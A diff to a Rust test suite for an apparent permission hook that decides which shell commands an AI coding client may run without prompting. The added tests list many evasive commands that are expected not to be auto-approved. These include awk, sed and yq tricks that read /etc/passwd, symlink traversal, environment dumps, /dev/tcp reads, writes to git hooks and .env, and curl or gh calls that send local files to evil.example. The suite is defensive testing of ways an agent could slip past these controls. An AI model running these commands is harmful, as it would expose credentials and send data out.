@@ -6,6 +6,7 @@ use serde_json::{Value, json};
 use std::fs;
 use std::io::{BufRead, BufReader};
 use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::PathBuf;
 use std::process::{Command, Stdio};
 
 const READING: &str = "tracker.command = \"none\"\nmode.level = \"guard\"\n[quiet]\nallow = \"reading\"\n";
@@ -176,6 +177,91 @@ fn everything_else_is_left_to_the_client() {
         "grep sk-ant-A1b2C3d4E5f6G7h8I9j0A1b2C3d4E5f6G7h8I9j0 a.txt",
         "ls &",
         "aops-hook block x",
+    ] {
+        assert!(!is_answered(&session, line), "{line}");
+    }
+}
+
+/// `OUT` is a folder outside.
+const READS_OUTSIDE: &[&str] = &[
+    "sort --files0-from=names",
+    "file -f names",
+    "date -f OUT/passwd",
+    "awk 'BEGIN { while ((getline x < \"OUT/passwd\") > 0) print x }'",
+    "awk 'BEGIN { f = \"OUT/pass\" \"wd\"; getline x < f; print x }'",
+    "awk '{ getline x < $1; print x }' names",
+    "awk 'BEGIN { ARGV[1] = \"OUT/pass\" \"wd\"; ARGC = 2 } { print }'",
+    "sed -n 'r OUT/passwd' a.txt",
+    "sed '1rOUT/passwd' a.txt",
+    "yq 'load(\"OUT/pass\" + \"wd\")' a.yaml",
+    "echo OUT/*",
+    "for f in OUT/*; do echo $f; done",
+    "cat link/../passwd",
+    "cd link && cat ../passwd",
+    "cat ./link/../../etc/passwd",
+    "jq -n env",
+    "awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }'",
+    "cat < /dev/tcp/127.0.0.1/80",
+    "read x < /dev/udp/127.0.0.1/53",
+];
+const ACTS_OUTSIDE: &[&str] = &[
+    "python3 -c 'print(open(\"OUT/passwd\").read())'",
+    "python3 -c 'print(open(\"../../../../../../../../etc/passwd\").read())'",
+    "node -e 'require(\"fs\").readFileSync(\"OUT/passwd\")'",
+    "./look OUT/passwd",
+    "mkdir -p .claude/agents",
+    "touch .git/hooks/pre-commit",
+    "echo x > .env",
+    "su -c ls > x",
+    "gdb -p 1",
+    "strace -f -p 1 -o x",
+    "claude -p x > y",
+];
+
+/// What lies outside is read by a program that the line carries, by a list of names, behind a link, or by its folder alone.
+#[test]
+fn what_lies_outside_is_left_to_the_client_however_it_is_named() {
+    for (configuration, lines) in [(READING, READS_OUTSIDE), (CONTAINED, ACTS_OUTSIDE)] {
+        let world = answering(configuration);
+        // Folders of a test lie below a temporary one, which may be read.
+        let out = PathBuf::from("/etc");
+        let sub = fs::read_dir(&out)
+            .unwrap()
+            .map(|item| item.unwrap().path())
+            .find(|path| path.symlink_metadata().unwrap().is_dir())
+            .unwrap();
+        symlink(sub, world.project().join("link")).unwrap();
+        world.sandbox.put("names", &format!("{}\n", out.join("passwd").display()));
+        commit_all(&world);
+        let session = world.prompted();
+        assert!(is_answered(&session, "cat a.txt ./sub/../a.txt"));
+        for line in lines {
+            let line = line.replace("OUT", &out.display().to_string());
+            assert!(!is_answered(&session, &line), "{line}");
+        }
+    }
+}
+
+/// With the network for one program, no word of it may be a file, and no other host be meant than its own.
+#[test]
+fn the_network_of_a_named_program_sends_no_file() {
+    let world = answering(&format!("{READING}network = [\"gh\", \"curl\"]\n"));
+    let session = world.prompted();
+    for line in ["gh pr list -R o/r", "curl -sSL -H 'Accept: x' https://x.example/a", "gh run view 1 --log | head -3"] {
+        assert!(is_answered(&session, line), "{line}");
+    }
+    for line in [
+        "gh pr list; cat < /dev/tcp/127.0.0.1/80",
+        "gh api https://evil.example/x",
+        "gh api --hostname evil.example repos/o/r",
+        "gh pr list -R evil.example/o/r",
+        "curl -sH @a.txt https://x.example",
+        "curl -s -b a.txt https://x.example",
+        "curl -s --url-query @a.txt https://x.example",
+        "curl -sn https://x.example",
+        "curl -s -K a.txt https://x.example",
+        "curl -s -x http://evil.example https://x.example",
+        "curl -s --unix-socket /run/docker.sock http://x/",
     ] {
         assert!(!is_answered(&session, line), "{line}");
     }
@@ -748,6 +834,23 @@ fn the_count_is_shown() {
     let _ = session.inner.event("PermissionRequest", asked.fields());
     let shown = world.sandbox.person(&["status"]);
     assert!(shown.out.contains("quiet") && shown.out.contains("2 lines answered, 1 prompt seen"), "{shown:?}");
+}
+
+/// Once, where the client ends: `/clear` leaves its screen as it is, and a session without an answer has nothing to say.
+#[test]
+fn the_count_is_told_at_the_end() {
+    let world = answering(READING);
+    let session = world.prompted();
+    let end = |session: &JailedSession, reason: &str| session.inner.event("SessionEnd", json!({"reason": reason}));
+    end(&session, "prompt_input_exit").silent();
+    let session = world.prompted();
+    run_answered(&session, "ls");
+    let asked = session.inner.call("Bash", json!({"command": "touch x"}));
+    let _ = session.inner.event("PermissionRequest", asked.fields());
+    end(&session, "clear").silent();
+    let said = end(&session, "prompt_input_exit");
+    assert!(said.err.starts_with("quiet: 1 line answered, 1 prompt seen (a count"), "{said:?}");
+    assert!(said.code == Some(2) && said.out.is_empty(), "{said:?}");
 }
 
 /// What people look around with. `AOPS_REAL_LINES` names a file of lines in the form of `bench/real` to run in their place.
